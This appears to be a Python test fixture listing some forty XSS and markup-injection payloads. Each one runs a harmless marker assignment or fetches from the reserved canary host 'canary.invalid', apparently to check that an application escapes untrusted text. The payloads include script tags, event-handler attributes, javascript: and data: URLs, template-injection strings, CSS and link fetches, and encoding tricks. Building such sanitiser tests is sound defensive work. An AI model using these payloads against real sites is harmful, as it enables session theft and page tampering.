"""Text that a browser would run or fetch if it were taken for anything but text.

Each strikes by setting `struck`, or reaches for an address whose host is `REACHED`.
"""

REACHED = "canary.invalid"
_RUN = "top.struck=1"
_AT = f"https://{REACHED}/heron"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</textarea></title></style><script>{_RUN}</script>",
    f"<ScRiPt src={_AT}.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src="{_AT}.png" onerror="{_RUN}">',
    f"'><svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script href={_AT}.js /></svg>",
    f"<math><mtext></p><style><img src onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN} onpageshow={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data={_AT}.svg></object>",
    f"<embed src={_AT}.svg>",
    f"<base href=https://{REACHED}/>",
    f"<meta http-equiv=refresh content='0;url={_AT}'>",
    f"<link rel=prefetch href={_AT}><link rel=dns-prefetch href=//{REACHED}>",
    f"<link rel=stylesheet href={_AT}.css>",
    f"<style>@import '{_AT}.css'; * {{ background: url({_AT}.png) }}</style>",
    f"<p style=\"background: url('{_AT}.png')\">",
    f"<video poster={_AT}.png><source src={_AT}.mp4 onerror={_RUN}></video>",
    f"<audio src={_AT}.ogg autoplay onerror={_RUN}>",
    f"<form action={_AT}><button formaction=javascript:{_RUN}>go</button></form>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<a href=javascript:{_RUN} ping={_AT}>go</a>",
    f"javascript:{_RUN}",
    f"JaVa\tScript:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"![heron]({_AT}.png)",
    f"[heron](javascript:{_RUN})",
    f"{_AT}?words=heron",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"--><!--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"\u202e<script>{_RUN}</script>\u2066",
    f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;{_RUN}",
    f"\\u003cscript\\u003e{_RUN}\\x3c/script\\x3e",
    f"constructor __proto__ toString <img src=x onerror={_RUN}>",
)
